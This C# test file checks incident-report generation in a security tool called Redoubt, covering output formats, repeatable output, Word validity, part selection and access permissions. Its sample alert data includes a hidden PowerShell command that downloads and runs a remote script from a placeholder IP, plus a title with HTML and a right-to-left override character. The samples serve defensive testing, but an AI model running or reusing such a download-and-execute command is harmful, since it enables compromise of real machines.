using System.Net;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using Redoubt.Server.Access;
using Redoubt.Server.Api;

namespace Redoubt.Server.Tests.Reports;

public sealed class IncidentReportTests
{
    private const string Alerts =
        """
        {"alertId":"a1","title":"Macro started a shell","detector":"Watch","severity":"high","techniques":["T1059.001"],"tactics":["execution"],"firstActivity":"2026-03-01T08:00:00Z","entities":[{"type":"device","hostName":"ws1"},{"type":"user","accountName":"ada"},{"type":"process","fileName":"powershell.exe","commandLine":"powershell -w hidden -c \"iwr http://198.51.100.7/a.ps1 | iex\""}]}
        {"alertId":"a2","title":"<b>Shell</b> read LSASS \u202Efdp.exe","detector":"Watch","severity":"high","techniques":["T1003.001"],"tactics":["credential-access"],"firstActivity":"2026-03-01T08:04:00Z","entities":[{"type":"device","hostName":"ws1"},{"type":"user","accountName":"ada"}]}
        """;

    [Fact]
    public async Task It_is_shown_and_written_in_four_formats_the_same_each_time()
    {
        await using var server = await OpenAsync();
        await server.SendAsync(HttpMethod.Post, "/api/incidents/1/comments", new { text = "Please check the other devices" });
        var shown = await server.GetAsync("/api/incidents/1/report");
        shown.GetProperty("parts").EnumerateArray().Select(part => part.GetProperty("id").GetString())
            // On a machine under load the analysis of a script may run out of its time, and is left out.
            .Where(id => id != "scripts").ShouldBe(["overview", "timestamps", "analysts", "classification", "story", "attack", "assets", "evidence", "actions", "log", "followUps"]);
        shown.GetProperty("markdown").GetString()!.ShouldContain("Please check the other devices");
        shown.GetProperty("parts")[4].GetProperty("blocks")[0].GetProperty("kind").GetString().ShouldBe("text");
        foreach (var (format, media) in new[] { ("md", "text/markdown"), ("html", "text/html"), ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"), ("pdf", "application/pdf") })
        {
            using var answer = await server.Http.GetAsync($"/api/incidents/1/report?format={format}");
            answer.StatusCode.ShouldBe(HttpStatusCode.OK);
            answer.Content.Headers.ContentType!.MediaType.ShouldBe(media);
            answer.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
            answer.Content.Headers.ContentDisposition!.FileName!.Trim('"').ShouldBe($"incident-1-report.{format}");
            var bytes = await answer.Content.ReadAsByteArrayAsync();
            await Task.Delay(1100);
            (await server.Http.GetByteArrayAsync($"/api/incidents/1/report?format={format}")).ShouldBe(bytes, format);
        }
    }

    [Fact]
    public async Task A_word_processor_finds_nothing_wrong()
    {
        await using var server = await OpenAsync();
        foreach (var path in new[] { "/api/incidents/1/report?format=docx", "/api/reports/rhythm?period=quarter&format=docx" })
        {
            using var document = WordprocessingDocument.Open(new MemoryStream(await server.Http.GetByteArrayAsync(path)), false);
            new OpenXmlValidator().Validate(document).Select(error => $"{error.Path?.XPath}: {error.Description}").ShouldBeEmpty(path);
        }
    }

    [Fact]
    public async Task Parts_are_picked_and_unknown_ones_refused()
    {
        await using var server = await OpenAsync();
        (await server.GetAsync("/api/incidents/1/report?parts=followUps,Actions")).GetProperty("parts").EnumerateArray().Select(part => part.GetProperty("id").GetString()).ShouldBe(["actions", "followUps"]);
        using var wrong = await server.Http.GetAsync("/api/incidents/1/report?parts=poem");
        wrong.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        using var format = await server.Http.GetAsync("/api/incidents/1/report?format=odt");
        format.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        using var missing = await server.Http.GetAsync("/api/incidents/99/report");
        missing.StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A_posted_report_is_in_the_log_and_quoted_by_no_other()
    {
        await using var server = await OpenAsync();
        await server.SendAsync(HttpMethod.Post, "/api/incidents/1/report/log", new { });
        var log = await server.GetAsync("/api/incidents/1/activity?kind=commented");
        log.GetProperty("items")[0].GetProperty("text").GetString()!.ShouldStartWith("# Report on incident 1: ");
        var again = await server.GetAsync("/api/incidents/1/report?parts=log,followUps");
        again.GetProperty("parts")[0].GetProperty("blocks").EnumerateArray().ShouldNotContain(block => block.GetProperty("heading").GetString() == "Comments");
    }

    [Fact]
    public async Task Who_may_not_does_not()
    {
        await using var server = await OpenAsync();
        HttpClient Without(params string[] permissions) => server.As(Caller.Local with
        {
            Name = "less-" + string.Join('-', permissions), Permissions = Caller.Local.Permissions.Except(permissions).ToHashSet(StringComparer.Ordinal),
        });
        using (var nobody = Without(Permissions.UseCopilot))
            (await nobody.GetAsync("/api/incidents/1/report")).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        using (var blind = Without(Permissions.ReadIncidents))
        {
            (await blind.GetAsync("/api/incidents/1/report")).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
            (await blind.GetAsync("/api/reports/rhythm")).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
            (await blind.PostAsync("/api/incidents/1/report/log", null)).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        }

        using (var reader = Without(Permissions.ManageIncidents))
            (await reader.PostAsync("/api/incidents/1/report/log", null)).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        using var actionless = Without(Permissions.ReadActions);
        var report = await actionless.GetStringAsync("/api/incidents/1/report?format=md");
        report.ShouldNotContain("## Actions");
        report.ShouldNotContain("No action was ordered");
    }

    private static async Task<TestServer> OpenAsync()
    {
        var server = await TestServer.StartAsync();
        await server.IngestAsync(Alerts, "native");
        return server;
    }
}
